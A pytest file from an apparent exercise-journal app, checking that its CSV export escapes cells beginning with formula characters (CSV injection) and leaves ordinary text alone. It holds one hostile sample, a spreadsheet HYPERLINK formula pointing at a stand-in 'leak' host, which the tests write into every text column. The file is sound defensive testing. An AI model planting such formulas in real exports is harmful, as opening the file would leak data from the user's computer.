"""The CSV export never hands a spreadsheet a formula, whichever column the text is in.

A clinician opens the export in a spreadsheet, which runs a cell starting with `=`, `+`,
`-`, `@`, a tab or a carriage return as a formula (OWASP's CSV injection): a routine
name, a pace or a note could then fetch a web page or run a command on their computer.
Here a journal holds such text in every text column a person or a file can fill, written
straight into SQLite as an older or tampered journal could hold it, and the real export
(in-process, no subprocess: the fast lane) must write each as text.
"""

from __future__ import annotations

import csv
import io
import sqlite3
from datetime import UTC, datetime

import pytest
from click.testing import CliRunner
from journal_helpers import add_session

from breathpace import paths
from breathpace.cli import main
from breathpace.journal.db import open_journal
from breathpace.journal.export import FORMULA_STARTS

#: A formula that would reach out if a spreadsheet ran it.
PAYLOAD = 'HYPERLINK("http://example.invalid/?leak")'


def exported() -> list[dict[str, str]]:
    result = CliRunner().invoke(main, ["export", "--csv", "-"])
    assert result.exit_code == 0, result.output
    return list(csv.DictReader(io.StringIO(result.stdout)))


@pytest.mark.usefixtures("classic_glute_bridge")
@pytest.mark.parametrize("start", FORMULA_STARTS, ids=repr)
def test_no_cell_of_any_column_starts_a_formula(start: str):
    hostile = start + PAYLOAD
    with open_journal() as journal:
        add_session(
            journal,
            "glute-bridge",
            datetime(2026, 11, 20, 8, tzinfo=UTC),
            effort=3,
            pain=2,
            note="fine",
        )
    conn = sqlite3.connect(paths.journal_file())
    with conn:
        conn.execute("UPDATE session SET routine = ?, mode = ?, pace = ?", (hostile,) * 3)
        conn.execute("UPDATE progress SET name = ?", (hostile,))
        conn.execute("UPDATE checkin SET note = ?", (hostile,))
    conn.close()

    (row,) = exported()
    shown = start.replace("\t", "\\t").replace("\r", "\\r")  # control stand-ins
    for column in ("routine", "mode", "pace", "note"):
        assert row[column] == "'" + shown + PAYLOAD, column
    assert row["exercises"].startswith("'" + shown + PAYLOAD)
    for column, value in row.items():
        assert not value.startswith(FORMULA_STARTS), (column, value)


@pytest.mark.usefixtures("classic_glute_bridge")
def test_ordinary_text_is_left_as_written():
    with open_journal() as journal:
        add_session(
            journal,
            "glute-bridge",
            datetime(2026, 11, 20, 8, tzinfo=UTC),
            note="hips tight = less range; 2+2 sets",
        )
    (row,) = exported()
    assert row["note"] == "hips tight = less range; 2+2 sets"
    assert row["routine"] == "glute-bridge"
